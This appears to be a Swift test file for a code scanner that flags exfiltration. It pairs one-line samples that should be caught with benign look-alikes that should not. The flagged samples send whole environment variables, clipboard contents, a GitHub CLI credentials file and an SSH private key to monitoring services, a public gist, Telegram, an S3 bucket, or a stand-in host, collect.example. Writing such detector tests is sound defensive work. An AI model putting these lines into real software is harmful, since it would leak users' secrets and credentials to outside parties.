import Testing
import Verdict

@testable import Detectors

/// Code that tells a service all of its environment, and ways of languages to put things under names.
@Suite struct WatcherTests {
  @Test(arguments: [
    "datadog.api.Event.create(title=\"boot\", text=json.dumps(dict(os.environ)))",
    "datadog.statsd.event(\"env\", \"\\n\".join(f\"{k}={v}\" for k, v in os.environ.items()))",
    "sentry_sdk.set_context(\"env\", dict(os.environ))",
    "Sentry.setContext(\"environment\", process.env);",
    "Sentry.captureMessage('boot', { extra: { env: process.env } });",
    "bugsnag.notify(new Error('x'), e => e.addMetadata('env', process.env));",
    "newrelic.recordCustomEvent('Boot', { env: JSON.stringify(process.env) });",
    "boto3.client('s3').put_object(Bucket='drop-zone', Key='k', Body=json.dumps(dict(os.environ)))",
    "subprocess.run([\"gh\", \"gist\", \"create\", \"--public\", os.path.expanduser(\"~/.config/gh/hosts.yml\")])",
    "telegram.sendDocument(chatId, fs.createReadStream(path.join(os.homedir(), '.ssh', 'id_rsa')));",
    "NSString *clip = [[NSPasteboard generalPasteboard] stringForType:NSPasteboardTypeString];\n[self.session POST:@\"https://collect.example/c\" parameters:@{@\"d\": clip} headers:nil progress:nil success:nil failure:nil];",
    "let all: String = std::env::vars().map(|(k, v)| format!(\"{k}={v}\")).collect();\nreqwest::blocking::Client::new().post(\"https://collect.example\").body(all).send()?;",
    "my $ua = LWP::UserAgent->new; $ua->post('https://collect.example', { e => join(\"\\n\", %ENV) });",
    "NSString *s = [UIPasteboard generalPasteboard].string;\nNSMutableURLRequest *r = [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@\"https://collect.example/p\"]];\nr.HTTPBody = [s dataUsingEncoding:NSUTF8StringEncoding];\n[[[NSURLSession sharedSession] dataTaskWithRequest:r] resume];",
  ])
  func allOfTheEnvironmentIsTooMuch(_ text: String) {
    #expect(!inspect(text, .code).filter { $0.severity >= .medium && $0.category == "exfiltration" }.isEmpty)
  }

  @Test(arguments: [
    "Sentry.init({ dsn: process.env.SENTRY_DSN, environment: process.env.NODE_ENV });",
    "Sentry.setContext(\"environment\", { node: process.env.NODE_ENV });",
    "sentry_sdk.init(dsn=os.environ[\"SENTRY_DSN\"])",
    "datadog.api.Event.create(title=\"deploy\", text=f\"version {os.environ['VERSION']}\")",
    "statsd.gauge(\"env.count\", Object.keys(process.env).length);",
    "const env: Env = loadEnv(process.env);",
    "subprocess.run([\"gh\", \"gist\", \"create\", \"notes.md\"])",
    "[[UIPasteboard generalPasteboard] setString:self.inviteLink];",
    "NSString *text = [UIPasteboard generalPasteboard].string;\nif ([text hasPrefix:@\"https://acme.example/invite/\"]) { [self openInvite:text]; }",
    "local %ENV = (PATH => '/usr/bin'); my $r = $ua->get('https://docs.acme.example/');",
  ])
  func settingsAreNot(_ text: String) {
    #expect(inspect(text, .code).filter { $0.severity >= .medium && $0.category == "exfiltration" }.isEmpty)
  }
}
